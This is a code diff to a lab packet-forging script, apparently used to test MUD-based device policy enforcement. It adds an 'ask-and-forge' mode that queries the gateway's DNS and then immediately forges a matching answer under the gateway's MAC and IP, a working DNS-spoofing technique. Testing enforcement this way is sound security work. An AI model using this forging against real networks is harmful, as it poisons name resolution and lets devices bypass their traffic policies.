@@ -9,6 +9,10 @@ hand (struct) and sent on a raw socket; nothing leaves the lab's namespaces.
       NAME, NAME -> ADDR. SRC_MAC "own" = the interface's MAC.
   forge.py IFACE dns-ip SRC_IP SPORT DST_IP DPORT NAME ADDR TTL
       the same as a routed IPv4 packet (a raw IP socket), from beyond the gateway.
+  forge.py IFACE ask-and-forge GW_MAC GW_IP NAME ADDR TTL
+      asks GW_IP a real question for NAME (a UDP socket), then at once forges
+      its answer (the same id and port) under the gateway's MAC: a device
+      widening its own policy with an answer it can match.
   forge.py IFACE dhcp-request SRC_MAC CHADDR MUD_URL
       a DHCPREQUEST for CHADDR with option 161, from SRC_MAC ("own" allowed).
   forge.py IFACE dhcp-ack SRC_MAC CHADDR YIADDR SERVER_IP
@@ -56,8 +60,8 @@ def name(n):
     return b"".join(bytes([len(p)]) + p.encode() for p in n.strip(".").split(".")) + b"\0"
 
 
-def dns_answer(qname, target, addr, ttl, cname_from=None):
-    ident = random.randrange(65536)
+def dns_answer(qname, target, addr, ttl, cname_from=None, ident=None):
+    ident = random.randrange(65536) if ident is None else ident
     ask = cname_from or qname
     msg = struct.pack("!HHHHHH", ident, 0x8180, 1, 2 if cname_from else 1, 0, 0)
     msg += name(ask) + struct.pack("!HH", 1, 1)
@@ -96,6 +100,29 @@ if what == "dns":
     frame = dst_mac + src_mac + b"\x08\x00" + udp(src, dst, sport, dport,
                                                    dns_answer(qname, qname, addr, ttl, cname_from))
     s.send(frame)
+elif what == "ask-and-forge":
+    gw_mac, gw_ip, qname, addr, ttl = mac(a[0], own), a[1], a[2], a[3], int(a[4])
+    q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    q.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifc.encode())
+    q.bind(("0.0.0.0", 0))
+    # One real exchange first, so that the gateway's neighbour entry is
+    # warm and the racing question leaves at once.
+    q.settimeout(2)
+    q.sendto(struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name(qname) + struct.pack("!HH", 1, 1),
+             (gw_ip, 53))
+    try:
+        q.recv(512)
+    except OSError:
+        pass
+    ident = random.randrange(2, 65536)
+    q.sendto(struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + name(qname) + struct.pack("!HH", 1, 1),
+             (gw_ip, 53))
+    me, port = q.getsockname()
+    if me == "0.0.0.0":
+        import fcntl
+        me = socket.inet_ntoa(fcntl.ioctl(q.fileno(), 0x8915, struct.pack("256s", ifc.encode()[:15]))[20:24])
+    s.send(own + gw_mac + b"\x08\x00" + udp(gw_ip, me, 53, port,
+                                             dns_answer(qname, qname, addr, ttl, ident=ident)))
 elif what == "dhcp-request":
     src_mac, chaddr, url = mac(a[0], own), mac(a[1], own), a[2].encode()
     opts = b"\x35\x01\x03" + bytes([161, len(url)]) + url
